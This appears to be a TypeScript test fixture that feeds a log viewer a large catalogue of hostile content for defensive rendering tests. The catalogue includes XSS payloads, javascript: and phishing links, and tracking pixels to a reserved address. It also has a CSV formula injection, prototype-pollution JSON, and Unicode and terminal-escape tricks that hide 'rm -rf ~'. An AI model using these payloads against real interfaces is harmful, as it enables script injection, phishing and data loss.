import { SampleLog } from '../lib/testing/sample-logs.ts';
import type { JsonObject } from '../lib/util/json.ts';

/** An address reserved for documentation (RFC 5737): no request may go to it. */
const EVIL = 'http://192.0.2.1';
const RUN = 'window.pwned = 1';

/** One piece of hostile content: an answer, what a command prints, or a file. */
export type HostileCase = { readonly name: string } & (
  | { readonly answer: string }
  | { readonly stdout: string }
  | { readonly path: string; readonly content: string }
  | { readonly result: JsonObject }
);

const tags = (text: string) =>
  [...text].map((sign) => String.fromCodePoint(0xe0000 + sign.charCodeAt(0))).join('');
const png = (width: number, height: number) => {
  const bytes = Buffer.alloc(64);
  bytes.write('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1');
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return `data:image/png;base64,${bytes.toString('base64')}`;
};
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="${EVIL}/i"/></svg>`;
const svgUrl = `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`;

const HTML: readonly HostileCase[] = Object.entries({
  script: `<script src="${EVIL}/x.js"></script><script>${RUN}</script>`,
  'image handler': `<img src="${EVIL}/p.png" onerror="${RUN}">`,
  'svg handler': `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName="x"/></svg>`,
  frame: `<iframe src="${EVIL}" srcdoc="<script>parent.pwned = 1</script>"></iframe>`,
  'style sheet': `<style>@import "${EVIL}/x.css"; * { display: none }</style><link rel="stylesheet" href="${EVIL}/y.css">`,
  refresh: `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  base: `<base href="${EVIL}/">`,
  form: `<form action="${EVIL}/"><input name="token" autofocus onfocus="${RUN}"><button>Sign in</button></form>`,
  plugin: `<object data="${EVIL}/o"></object><embed src="${EVIL}/e">`,
  anchor: `<a href="javascript:${RUN}" target="_top">sign in again</a>`,
  details: `<details open ontoggle="${RUN}"><summary>more</summary></details>`,
  media: `<video src="${EVIL}/v" onerror="${RUN}"></video><audio src="${EVIL}/a" autoplay></audio>`,
  'math link': `<math><mtext><mglyph><style><a href="javascript:${RUN}">x</a></style></mglyph></mtext></math>`,
  template: `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  comment: `<!-- a hidden order --!><img src=x onerror="${RUN}">-->`,
  'closing tags': `</p></div></article></main></script><script>${RUN}</script>`,
  'processing instruction': `<?xml-stylesheet href="${EVIL}/x.xsl"?><![CDATA[<script>${RUN}</script>]]>`,
  'html in a table': `| a | b |\n|---|---|\n| <img src="${EVIL}/t" onerror="${RUN}"> | <script>${RUN}</script> |`,
  'broken tag': `<img src="${EVIL}/b" onerror="${RUN}" <b`,
}).map(([name, answer]) => ({ name: `html: ${name}`, answer }));

const LINKS: readonly HostileCase[] = Object.entries({
  'script address': `[click](javascript:${RUN.replaceAll(' ', '')})`,
  'mixed case': `[click](JaVaScRiPt:${RUN.replaceAll(' ', '')}) [x](  javascript:alert(1))`,
  entities: `[click](&#x6A;avascript&colon;alert(1)) [click](java&Tab;script:alert(1))`,
  'data page': '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'visual basic': '[click](vbscript:msgbox(1)) [file](file:///etc/passwd)',
  'other host': `[your bank](${EVIL}/login) <${EVIL}/auto> ${EVIL}/bare`,
  'without a protocol': '[x](//192.0.2.1/x) [y](\\\\192.0.2.1\\y)',
  reference: `[click][1]\n\n[1]: ${EVIL}/reference "title"`,
  'own interface': '[stop](/api/runs) [row](#1) [up](../../..)',
  'title with a handler': `[x](${EVIL}/t "\\" onmouseover=\\"${RUN}")`,
  nested: `[![pixel](${EVIL}/nested.png)](${EVIL}/outer)`,
  'misleading words': `[https://example.org](${EVIL}/phish)`,
}).map(([name, answer]) => ({ name: `link: ${name}`, answer }));

const IMAGES: readonly HostileCase[] = [
  ...Object.entries({
    remote: `![pixel](${EVIL}/pixel.png) ![a"onerror="${RUN}](${EVIL}/q.png)`,
    'own interface': '![x](/api/runs) ![y](api/session) ![z](?x)',
    'by reference': `![pixel][p]\n\n[p]: ${EVIL}/reference.png`,
    'svg as data': `![x](${svgUrl})`,
    'huge picture': `![x](${png(60_000, 60_000)})`,
    'broken picture': '![x](data:image/jpeg;base64,/9j/4AAQSkZJRg==)',
    'page as a picture': '![x](data:text/html,<script>alert(1)</script>)',
  }).map(([name, answer]) => ({ name: `image: ${name}`, answer })),
  { name: 'image: svg as a result', result: { content: svgUrl } },
  { name: 'image: svg file', path: 'evil.svg', content: svg },
  { name: 'image: huge picture as a result', result: { content: png(50_000, 50_000) } },
];

const MATH: readonly HostileCase[] = Object.entries({
  link: String.raw`$\href{javascript:alert(1)}{x}$ $\url{http://192.0.2.1}$`,
  picture: String.raw`$\includegraphics{http://192.0.2.1/m.png}$`,
  attributes: String.raw`$\htmlStyle{position:fixed}{x}$ $\class{fixed}{x} \id{main}{x} \data{a=b}{x}$`,
  'endless macro': String.raw`$\def\a{\a\a}\a$`,
  'growing macro': String.raw`$\def\b{xxxxxxxxxx}\def\c{\b\b\b\b\b\b\b\b\b\b}\def\d{\c\c\c\c\c\c\c\c\c\c}\d\d\d\d\d\d\d\d\d$`,
  'reversed letters': String.raw`$\char"202E \text{txt.exe}$`,
  'covering box': String.raw`$\rule{999em}{999em}\hspace{-999em}\color{white}\phantom{hidden}$`,
  'deep nesting': `$${'{'.repeat(900)}x${'}'.repeat(900)}$ $$${String.raw`\sqrt{`.repeat(200)}x${'}'.repeat(200)}$$`,
  'many signs': '$a '.repeat(9000),
  'html in text': String.raw`$\text{<img src=http://192.0.2.1/t onerror=alert(1)>}$`,
}).map(([name, answer]) => ({ name: `math: ${name}`, answer }));

const CODE: readonly HostileCase[] = [
  ...Object.entries({
    'language with markup': `\`\`\`"><img src=${EVIL}/l onerror="${RUN}">\nx\n\`\`\``,
    'language of the prototype': '```__proto__\nx\n```\n\n```constructor\ny\n```',
    'html block': `\`\`\`html\n<script>${RUN}</script><img src=${EVIL}/h>\n\`\`\``,
    diagram: `\`\`\`mermaid\ngraph TD; A[<img src=${EVIL}/g>] --> B\nclick A "javascript:${RUN}"\n\`\`\``,
    'never closed': `\`\`\`js\n</script><script>${RUN}</script>`,
  }).map(([name, answer]) => ({ name: `code: ${name}`, answer })),
  { name: 'code: html file', path: 'index.html', content: `<script>${RUN}</script>\n${svg}` },
  { name: 'code: slow for patterns', path: 'slow.ts', content: `${'a<'.repeat(900)}\n`.repeat(20) },
];

const UNSEEN: readonly HostileCase[] = [
  ...Object.entries({
    'reversed name': 'Open **invoice\u202egpj.exe** now',
    'between marks': 'ad**\u200bmin** ro*\u2060*ot\ufeff',
    'tag characters': `ls${tags('; rm -rf ~')} -l`,
    'as entities': 'a&#x202e;b&#8203;c&#0;d&#xFEFF;e',
    'stacked marks': `e${'\u0301'.repeat(400)} z`,
    'control characters': 'a\u0000b\u0007c\u001b[31md\u009be',
    'in a table': '| a\u202eb | c |\n|---|---|\n| \u2066d | e\u2069 |',
    'in an address': `[x](${EVIL}/\u202emoc.elpmaxe)`,
    'in a language': '```j\u202es\nx\u200by\n```',
    'in a picture': `![a\u202eb](${EVIL}/\u200b.png)`,
  }).map(([name, answer]) => ({ name: `unseen: ${name}`, answer })),
  { name: 'unseen: in a path', path: 'a\u202etxt.sh', content: 'x\u200by' },
];

const LARGE: readonly HostileCase[] = Object.entries({
  quotes: `${'>'.repeat(20_000)}a`,
  brackets: '['.repeat(50_000),
  'alternating emphasis': '*_'.repeat(20_000),
  'nested lists': `${'- '.repeat(5000)}a`,
  'wide table': `${'|a'.repeat(3000)}|\n${'|-'.repeat(3000)}|\n${'|b'.repeat(3000)}|`,
  'one long word': 'a'.repeat(59_000),
  backticks: Array.from({ length: 250 }, (_, index) => '`'.repeat(index)).join(' '),
  'many lines': '- a\n'.repeat(15_000),
}).map(([name, answer]) => ({ name: `large: ${name}`, answer }));

const OUTPUT: readonly HostileCase[] = [
  ...Object.entries({
    'terminal link': `\u001b[31m\u001b]8;;${EVIL}/osc\u001b\\click\u001b]8;;\u001b\\`,
    'terminal title': '\u001b[32mok\u001b[0m\u001b]0;pwned\u0007\u001b[2J\u001b[H\u001bc',
    'hidden text': 'safe \u001b[8mrm -rf ~\u001b[0m \u001b[30;40mblack on black\u001b[0m',
    'colors without end': '\u001b[31mx'.repeat(8000),
    'markup in colors': `\u001b[31m<img src=${EVIL}/a onerror="${RUN}">\u001b[0m`,
    'cursor movement': '\u001b[33mreal\u001b[0m\u001b[5A\u001b[3Kfake\rover',
    'diff with markup': `diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-<script>${RUN}</script>\n+<img src=${EVIL}/d>`,
    'diff with reversed letters':
      'diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +99999999999 @@\n+a\u202eb\n@@ -1 +1 @@\n+c\u200bd',
    'page as data': 'data:text/html,<script>alert(1)</script>',
    'json with markup': JSON.stringify({
      [`<img src=${EVIL}/k>`]: `<script>${RUN}</script>`,
      'a\u202eb': '\u200b',
    }),
    'json of the prototype':
      '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}',
    'json without end': `${'['.repeat(30_000)}${']'.repeat(30_000)}`,
    'json with long numbers': '{"id": 12345678901234567890}',
  }).map(([name, stdout]) => ({ name: `output: ${name}`, stdout })),
  { name: 'output: result with markup', result: { nested: { [`<b onclick="${RUN}">`]: [{ a: svg }] } } },
];

const TABLES: readonly HostileCase[] = Object.entries({
  'markup and formulas': `a,b\n"=HYPERLINK(""${EVIL}"")","<img src=${EVIL}/c onerror=""${RUN}"">"`,
  'open quotes': `a,b\n"${'x,'.repeat(9000)}`,
  'many columns': `${'a,'.repeat(5000)}\n${'1,'.repeat(5000)}`,
  'unseen characters': 'a\u202eb,c\n\u200bd,e\u0000f',
}).map(([name, content]) => ({ name: `table: ${name}`, path: 'data.csv', content }));

export const HOSTILE_CASES: readonly HostileCase[] = [
  ...[HTML, LINKS, IMAGES, MATH, CODE, UNSEEN, LARGE, OUTPUT, TABLES].flat(),
];

/** A finished run with all of it: an iteration for each case, and the text of one more case as its answer. */
export function hostileLog(runId: string): SampleLog {
  const log = new SampleLog({
    runId,
    config: { task: 'Read what others wrote.', title: 'Hostile content' },
  }).prepare();
  for (const hostile of HOSTILE_CASES) {
    const title = `Case: ${hostile.name}.`;
    log.round(
      'answer' in hostile
        ? { text: `${title}\n\n${hostile.answer}`, calls: [pause] }
        : callOf(title, hostile),
    );
  }
  const last = HTML.concat(LINKS, MATH).flatMap((hostile) => ('answer' in hostile ? [hostile.answer] : []));
  log
    .iteration()
    .callStarts()
    .reply({ text: last.join('\n\n') });
  return log.end('final_answer', {
    message: 'The model answered without asking for a tool.',
    output: last.join('\n\n'),
    outcome: { kind: 'answered' },
  });
}

const pause = { name: 'list_files', arguments: { path: '.' }, result: { output: { entries: [] } } };

function callOf(text: string, hostile: Exclude<HostileCase, { answer: string }>) {
  if ('stdout' in hostile) {
    const output = { exit_code: 0, stdout: hostile.stdout, stderr: '' };
    return { text, calls: [{ name: 'run_command', arguments: { command: 'make' }, result: { output } }] };
  }
  if ('result' in hostile) return { text, calls: [{ ...pause, result: { output: hostile.result } }] };
  const { path, content } = hostile;
  const read = { name: 'read_file', arguments: { path }, result: { output: { ...whole, path, content } } };
  const write = {
    name: 'write_file',
    arguments: { path, content: `${content}\n<b>more</b>` },
    result: { output: { path, created: false } },
  };
  return { text, calls: [read, write] };
}

const whole = { start_line: 1, end_line: 1, total_lines: 1 };
